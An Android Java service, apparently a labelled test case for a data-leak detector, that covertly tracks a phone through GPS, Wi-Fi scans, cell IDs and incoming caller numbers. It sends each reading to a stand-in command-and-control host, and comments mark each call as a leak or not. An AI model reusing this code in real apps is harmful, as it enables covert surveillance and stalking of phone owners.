package trojans;

import android.app.Service;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.IntentFilter;
import android.location.Address;
import android.location.Geocoder;
import android.location.Location;
import android.location.LocationManager;
import android.net.wifi.ScanResult;
import android.net.wifi.WifiManager;
import android.os.Binder;
import android.os.IBinder;
import android.telephony.CellInfo;
import android.telephony.CellInfoLte;
import android.telephony.PhoneStateListener;
import android.telephony.TelephonyManager;
import java.net.URL;
import java.util.List;
import java.util.Locale;

/** Where the phone is, in five ways. */
public class Track extends Service {
    private final BroadcastReceiver scans = new BroadcastReceiver() {
        @Override
        public void onReceive(Context context, Intent intent) {
            StringBuilder around = new StringBuilder();
            for (ScanResult one : ((WifiManager) getSystemService(WIFI_SERVICE)).getScanResults()) {
                around.append(one.BSSID).append(',').append(one.level).append(';');
            }
            ask("wifi", around);
        }
    };

    private final PhoneStateListener cells = new PhoneStateListener() {
        @Override
        public void onCellInfoChanged(List<CellInfo> all) {
            for (CellInfo one : all) {
                if (one instanceof CellInfoLte) {
                    cell(((CellInfoLte) one).getCellIdentity().getCi());
                }
            }
        }

        @Override
        public void onCallStateChanged(int state, String number) {
            if (state == TelephonyManager.CALL_STATE_RINGING) {
                ring(number);
            } else {
                idle(state);
            }
        }
    };

    public IBinder onBind(Intent intent) {
        return new Binder();
    }

    public void onCreate() {
        registerReceiver(scans, new IntentFilter(WifiManager.SCAN_RESULTS_AVAILABLE_ACTION));
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        phone.listen(cells, PhoneStateListener.LISTEN_CELL_INFO | PhoneStateListener.LISTEN_CALL_STATE);
        new Thread(this::last).start();
    }

    private void last() {
        LocationManager places = (LocationManager) getSystemService(Context.LOCATION_SERVICE);
        Location best = null;
        for (String provider : places.getProviders(true)) {
            Location one = places.getLastKnownLocation(provider);
            if (one != null && (best == null || one.getAccuracy() < best.getAccuracy())) {
                best = one;
            }
        }
        try {
            List<Address> near = new Geocoder(this, Locale.US).getFromLocation(best.getLatitude(), best.getLongitude(), 1);
            new URL("http://c2.example.invalid/a?" + near.get(0).getAddressLine(0)).openConnection().getContent(); // leak
            new URL("http://c2.example.invalid/p?" + (best == null ? "none" : "some")).openConnection().getContent(); // no leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void ask(String kind, CharSequence what) {
        try {
            new URL("http", "c2.example.invalid", "/" + kind + "?q=" + what).openStream(); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void cell(int id) {
        try {
            new URL("http://c2.example.invalid/c?" + id).openStream(); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void ring(String number) {
        try {
            new URL("http://c2.example.invalid/r?" + number).openStream(); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }

    private void idle(int state) {
        try {
            new URL("http://c2.example.invalid/s?" + state).openStream(); // no leak
        } catch (Exception e) {
            stopSelf();
        }
    }
}
